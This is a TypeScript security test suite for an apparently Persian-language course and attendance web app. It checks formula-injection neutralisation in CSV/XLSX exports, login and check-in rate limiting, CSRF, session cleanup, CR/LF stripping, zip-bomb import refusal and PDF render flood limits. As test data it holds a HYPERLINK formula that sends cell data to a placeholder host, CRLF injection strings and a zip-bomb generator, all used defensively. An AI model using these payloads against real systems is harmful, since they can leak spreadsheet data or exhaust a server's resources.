import fs from 'node:fs';
import path from 'node:path';
import { after, before, beforeEach, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { ZipArchive } from 'archiver';
import ExcelJS from 'exceljs';
import express from 'express';
import request from 'supertest';
import { QueryTypes } from 'sequelize';
import { createTestApp, type TestApp } from '../helpers/app';
import { createAdmin, createCourse, createLiaison, createSession, enroll, nationalCode, PASSWORD } from '../helpers/factories';
import { csrfFrom, csrfOf, loginAs, postForm, type Agent, binary } from '../helpers/http';
import { RateLimit, User } from '../../src/models';
import { LIMITS } from '../../src/services/rate-limiter';
import { storedSessionSecret } from '../../src/services/sessions';
import { PdfRenderer, RenderAbortedError, RendererBusyError } from '../../src/services/pdf/renderer';
import { cleanUp } from '../../src/services';
import { checkInSecret, currentCode } from '../../src/features/attendance/check-in-codes';
import { todayIso } from '../../src/lib/jalali';
import { projectRoot } from '../../src/config';
import { setUpViews } from '../../src/middleware/views';
import { errorHandler } from '../../src/middleware/errors';

let t: TestApp;
let admin: Agent;

before(async () => {
  t = await createTestApp({ TRUST_PROXY: '1' });
  admin = await loginAs(t.app, (await createAdmin({ username: 'hardadmin' })).username);
});
after(async () => t.close());
beforeEach(async () => {
  await RateLimit.destroy({ where: {} });
});

const sessionRows = async () =>
  Number((await t.services.sequelize.query<{ n: number }>('SELECT COUNT(*) AS n FROM http_sessions', { type: QueryTypes.SELECT }))[0].n);

/** A login form posted from a given client address (TRUST_PROXY=1 takes it from X-Forwarded-For). */
async function loginFrom(ip: string, username: string, password: string) {
  const agent = request.agent(t.app);
  const page = await agent.get('/login').set('X-Forwarded-For', ip);
  return agent
    .post('/login')
    .set('X-Forwarded-For', ip)
    .type('form')
    .send({ username, password, _csrf: csrfFrom(page.text) });
}

describe('exports never start a formula', () => {
  it('neutralises a liaison’s father’s name and an admin’s title in the enrollment and report CSVs; XLSX keeps them as text', async () => {
    const formula = '=HYPERLINK("http://example.invalid/?"&A1,"x")';
    const liaison = await createLiaison({ fatherName: formula, fullName: '@SUM(1+1)' });
    const course = await createCourse({ title: '=1+2 خبرنویسی', code: 'FRM-1' });
    await createSession(course);
    await enroll(course, liaison, { reason: '-2+3' });
    const cells: string[] = [];
    for (const path of [`/admin/courses/${course.id}/enrollments?format=csv`, '/admin/reports/courses?year=all&format=csv']) {
      const res = await admin.get(path);
      assert.equal(res.status, 200);
      const text = res.text;
      assert.ok(text.startsWith('\uFEFF'), 'a byte-order mark');
      cells.push(
        ...text
          .slice(1)
          .split(/\r\n/)
          .flatMap((line) => line.split(',')),
      );
    }
    const risky = cells.map((c) => c.replace(/^"/, '')).filter((c) => /^[=+@\t\r]/.test(c) || (/^-/.test(c) && !/^-\d+$/.test(c)));
    assert.deepEqual(risky, []);
    assert.ok(
      cells.some((c) => c.includes("'=HYPERLINK")),
      'the value is kept, shown as text',
    );

    const xlsx = await admin.get(`/admin/courses/${course.id}/enrollments?format=xlsx`).buffer(true).parse(binary);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body as Parameters<typeof workbook.xlsx.load>[0]);
    const sheet = workbook.worksheets[0];
    assert.equal(sheet.views[0].rightToLeft, true);
    const values = sheet
      .getSheetValues()
      .flat()
      .filter((v) => v !== undefined && v !== null);
    assert.ok(
      values.every((v) => typeof v === 'string' || typeof v === 'number'),
      'no formula cells',
    );
    assert.ok(values.includes(1), 'numbers stay numbers');
  });
});

describe('failed logins', () => {
  it('limits the attacking address but lets the owner in from their own, slowed at most', async () => {
    const victim = await createLiaison();
    const statuses: number[] = [];
    for (let i = 0; i < LIMITS.failedLoginsPerAccountAndIp.max + 3; i++)
      statuses.push((await loginFrom('203.0.113.7', victim.username, `wrong-${i}`)).status);
    assert.deepEqual(statuses.slice(0, LIMITS.failedLoginsPerAccountAndIp.max), Array(LIMITS.failedLoginsPerAccountAndIp.max).fill(400));
    assert.deepEqual(statuses.slice(LIMITS.failedLoginsPerAccountAndIp.max), [429, 429, 429]);
    const owner = await loginFrom('198.51.100.200', victim.username, PASSWORD);
    assert.equal(owner.status, 303);
    assert.equal(owner.headers.location, '/me');
  });

  it('counts concurrent wrong logins before checking them: at most the limit are evaluated', async () => {
    const racer = await createLiaison();
    const results = await Promise.all(Array.from({ length: 30 }, (_, i) => loginFrom('203.0.113.99', racer.username, `wrong-${i}`)));
    const evaluated = results.filter((r) => r.status !== 429).length;
    assert.ok(evaluated <= LIMITS.failedLoginsPerAccountAndIp.max, `${evaluated} evaluated`);
    assert.ok(results.some((r) => r.status === 429));
  });

  it('never refuses the right password from an address that has not failed, even after many failures elsewhere on it', async () => {
    const user = await createLiaison();
    for (let i = 0; i < 12; i++) await loginFrom(`192.0.2.${i + 1}`, user.username, 'wrong-password');
    assert.equal((await loginFrom('198.51.100.9', user.username, PASSWORD)).status, 303);
  });
});

describe('self check-in codes', () => {
  it('counts concurrent wrong codes before checking them: at most the limit are evaluated', async () => {
    const course = await createCourse({ status: 'running' });
    const session = await createSession(course, { date: todayIso(), startTime: '00:00', endTime: '23:59' });
    const liaison = await createLiaison();
    await enroll(course, liaison);
    await admin.get(`/admin/sessions/${session.id}/check-in`);
    const right = currentCode(await checkInSecret(t.services.sequelize, session.id)).code;
    const wrong = ['000000', '123456', '999999'].find((c) => c !== right)!;
    const agent = await loginAs(t.app, liaison.username);
    const token = await csrfOf(agent, '/check-in');
    const results = await Promise.all(
      Array.from({ length: 20 }, () =>
        agent
          .post('/check-in')
          .type('form')
          .send({ session: String(session.id), code: wrong, _csrf: token }),
      ),
    );
    const evaluated = results.filter((r) => r.status !== 429).length;
    assert.ok(evaluated <= LIMITS.selfCheckInsPerUser.max, `${evaluated} evaluated`);
    assert.ok(results.some((r) => r.status === 429));
  });
});

describe('sessions and CSRF', () => {
  it('writes no session row for anonymous page views, and the anonymous forms still post', async () => {
    const before = await sessionRows();
    for (let i = 0; i < 20; i++) {
      for (const path of ['/login', '/register', '/verify']) assert.equal((await request(t.app).get(path)).status, 200);
    }
    assert.equal(await sessionRows(), before);
    const liaison = await createLiaison();
    const agent = await loginAs(t.app, liaison.username);
    assert.equal((await agent.get('/me')).status, 200);
  });

  it('refuses an anonymous form whose token was not signed for its cookie', async () => {
    const one = request.agent(t.app);
    const token = await csrfOf(one);
    const other = request.agent(t.app);
    await other.get('/login');
    const res = await other.post('/login').type('form').send({ username: 'x', password: 'y', _csrf: token });
    assert.equal(res.status, 403);
    assert.equal((await request(t.app).post('/login').type('form').send({ username: 'x', password: 'y', _csrf: token })).status, 403);
  });

  it('deletes expired sessions and ended rate-limit windows (what server.ts schedules every 15 minutes)', async () => {
    const past = new Date(Date.now() - 60_000);
    const future = new Date(Date.now() + 60_000);
    await t.services.sequelize.query(
      "INSERT INTO http_sessions (sid, expires, data, created_at, updated_at) VALUES ('old-session', :past, '{}', :past, :past), ('live-session', :future, '{}', :past, :past)",
      { replacements: { past, future } },
    );
    await RateLimit.bulkCreate([
      { key: 'old-window', hits: 3, resetAt: past },
      { key: 'live-window', hits: 3, resetAt: future },
    ]);
    await cleanUp(t.services);
    const sids = (
      await t.services.sequelize.query<{ sid: string }>("SELECT sid FROM http_sessions WHERE sid LIKE '%-session'", {
        type: QueryTypes.SELECT,
      })
    ).map((r) => r.sid);
    assert.deepEqual(sids, ['live-session']);
    assert.deepEqual(
      (await RateLimit.findAll()).map((r) => r.key),
      ['live-window'],
    );
  });

  it('keeps a stored random session secret: the same one on every start', async () => {
    const first = await storedSessionSecret(t.services.sequelize);
    assert.ok(first.length >= 32);
    assert.notEqual(first, 'rabet-development-secret-not-for-production');
    assert.equal(await storedSessionSecret(t.services.sequelize), first);
  });
});

describe('production mode', () => {
  it('is what npm start runs, and its 500 page shows no stack trace or internal message', async () => {
    const scripts = JSON.parse(fs.readFileSync(path.join(projectRoot, 'package.json'), 'utf8')).scripts as Record<string, string>;
    assert.match(scripts.start, /NODE_ENV=production node /);
    assert.match(scripts.dev, /NODE_ENV=development /);
    const app = express();
    setUpViews(app, true);
    app.get('/boom', () => {
      throw new Error('internal-detail-xyz');
    });
    app.use(errorHandler(true));
    const res = await request(app).get('/boom');
    assert.equal(res.status, 500);
    assert.match(res.text, /خطایی در سامانه رخ داد/);
    assert.doesNotMatch(res.text, /internal-detail-xyz|at .*\.ts:\d+/);
  });
});

describe('hostile input', () => {
  it('stores single-line fields without CR or LF', async () => {
    const agent = request.agent(t.app);
    const res = await postForm(
      agent,
      '/register',
      {
        fullName: 'علی\rX-INJECTED:1',
        fatherName: 'حسین\nکاظمی',
        nationalCode: nationalCode(9101),
        mobile: '09139101001',
        county: 'kerman',
        position: 'رابط\r\nروابط عمومی',
        username: 'crlf1',
        password: 'Liaison-Pass-1405',
      },
      '/register',
    );
    assert.equal(res.status, 303);
    const user = await User.findOne({ where: { username: 'crlf1' } });
    assert.equal(user?.fullName, 'علی X-INJECTED:1');
    assert.equal(user?.fatherName, 'حسین کاظمی');
    assert.equal(user?.position, 'رابط روابط عمومی');
  });

  it('answers an overlong page number with the list, not a 500', async () => {
    for (const path of ['/admin/outbox', '/admin/liaisons', '/admin/courses', '/courses']) {
      assert.equal((await admin.get(`${path}?page=99999999999999999999`)).status, 200, path);
    }
  });

  it('sends verification pages with Cache-Control: no-store', async () => {
    for (const path of ['/verify', '/verify/NO-SUCH-CODE']) {
      assert.equal((await request(t.app).get(path)).headers['cache-control'], 'no-store', path);
    }
  });
});

/** A zip whose one sheet inflates from a few hundred kilobytes to `megabytes` of spaces. */
async function zipBomb(megabytes: number): Promise<Buffer> {
  const archive = new ZipArchive({ zlib: { level: 9 } });
  const chunks: Buffer[] = [];
  archive.on('data', (c: Buffer) => chunks.push(c));
  const done = new Promise((resolve) => archive.once('end', resolve));
  archive.append('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>', {
    name: '[Content_Types].xml',
  });
  archive.append(
    Buffer.concat([Buffer.from('<worksheet><sheetData>'), Buffer.alloc(megabytes << 20, 0x20), Buffer.from('</sheetData></worksheet>')]),
    {
      name: 'xl/worksheets/sheet1.xml',
    },
  );
  await archive.finalize();
  await done;
  return Buffer.concat(chunks);
}

describe('imports', () => {
  const upload = async (content: Buffer, name: string) => {
    const token = await csrfOf(admin, '/admin/liaisons/import');
    return admin.post(`/admin/liaisons/import?_csrf=${encodeURIComponent(token)}`).attach('file', content, name);
  };

  it('refuses an XLSX that inflates past the limit, in Persian, while /health keeps answering', async () => {
    const bomb = await zipBomb(64);
    assert.ok(bomb.length < 1024 * 1024);
    const users = await User.count();
    const answer = upload(bomb, 'liaisons.xlsx');
    const t0 = Date.now();
    const health = await request(t.app).get('/health');
    assert.equal(health.status, 200);
    assert.ok(Date.now() - t0 < 1000);
    const res = await answer;
    assert.equal(res.status, 400);
    assert.match(res.text, /پس از باز شدن بیش از/);
    assert.equal(await User.count(), users);
  });

  it('refuses a CSV with more rows than the limit', async () => {
    const lines = [
      'fullName,nationalCode,mobile,county',
      ...Array.from({ length: 2001 }, (_, i) => `رابط ${i},${nationalCode(i)},0913${String(i).padStart(7, '0')},kerman`),
    ];
    const res = await upload(Buffer.from(lines.join('\n')), 'many.csv');
    assert.equal(res.status, 400);
    assert.match(res.text, /حداکثر ۲۰۰۰ سطر/);
  });
});

describe('PDF renders', () => {
  it('renders one owner at a time with one more waiting, and drops a waiting render whose client has gone', async () => {
    const renderer = new PdfRenderer();
    const job = { source: '#set text(font: "Vazirmatn")\nسلام', data: {} };
    try {
      const first = renderer.render(job, { owner: 'user:1' });
      const second = renderer.render(job, { owner: 'user:1' });
      await assert.rejects(renderer.render(job, { owner: 'user:1' }), RendererBusyError);
      const gone = new AbortController();
      const leaving = renderer.render(job, { owner: 'user:2', signal: gone.signal });
      gone.abort();
      assert.ok((await first).subarray(0, 4).toString() === '%PDF');
      await assert.rejects(leaving, RenderAbortedError);
      assert.ok((await second).length > 0);
      // Places are given back: the owner may ask again.
      assert.ok((await renderer.render(job, { owner: 'user:1' })).length > 0);
    } finally {
      await renderer.close();
    }
  });

  it('refuses a flood from one liaison with 503 and Retry-After, and serves another meanwhile', async () => {
    const flooder = await loginAs(t.app, (await createLiaison()).username);
    const other = await loginAs(t.app, (await createLiaison()).username);
    const flood = Promise.all(Array.from({ length: 8 }, () => flooder.get('/me/record.pdf')));
    const t0 = Date.now();
    const mine = await other.get('/me/record.pdf');
    const waited = Date.now() - t0;
    const answers = await flood;
    assert.equal(mine.status, 200);
    assert.equal(mine.headers['cache-control'], 'no-store');
    const refused = answers.filter((r) => r.status === 503);
    assert.ok(refused.length >= 8 - 2, `statuses ${answers.map((r) => r.status)}`);
    assert.equal(refused[0].headers['retry-after'], '5');
    assert.match(refused[0].text, /چند ثانیه بعد/);
    assert.ok(answers.filter((r) => r.status === 200).length >= 1);
    assert.ok(waited < 10_000, `${waited} ms`);
  });
});
